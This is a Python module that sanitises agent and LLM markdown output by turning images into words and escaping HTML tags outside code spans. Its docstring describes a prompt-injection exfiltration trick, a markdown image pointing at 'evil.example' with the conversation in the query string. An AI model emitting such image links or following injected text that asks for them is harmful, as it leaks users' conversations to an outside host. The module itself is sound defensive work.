"""Agent and LLM output as markdown a browser can show without being made to fetch anything.

An agent's text may carry a prompt injection's `![](https://evil.example/?q=<the conversation>)`
or `<img src=...>`: rendered, the person's browser would send the conversation away. So images
become words, and HTML tags are shown as text, everywhere but inside code (which shows them
verbatim anyway). The page's CSP (offline.py) refuses remote images as a second line.
"""

from __future__ import annotations

import re

_CODE = re.compile(r"(```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]*`)", re.DOTALL)
_INLINE_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
_REFERENCE_IMAGE = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_TAG = re.compile(r"<(/?[A-Za-z!?][^<>]*)>")


def _image_text(match: re.Match[str]) -> str:
    alt = match.group(1).strip()
    return f"*(image not shown{': ' + alt if alt else ''})*"


def _outside_code(text: str) -> str:
    text = _INLINE_IMAGE.sub(_image_text, text)
    text = _REFERENCE_IMAGE.sub(_image_text, text)
    return _TAG.sub(lambda m: f"&lt;{m.group(1)}&gt;", text)


def safe_markdown(text: str) -> str:
    """`text` with images turned into words and HTML tags into text, code left as it is."""
    parts = _CODE.split(text)
    return "".join(part if i % 2 else _outside_code(part) for i, part in enumerate(parts))
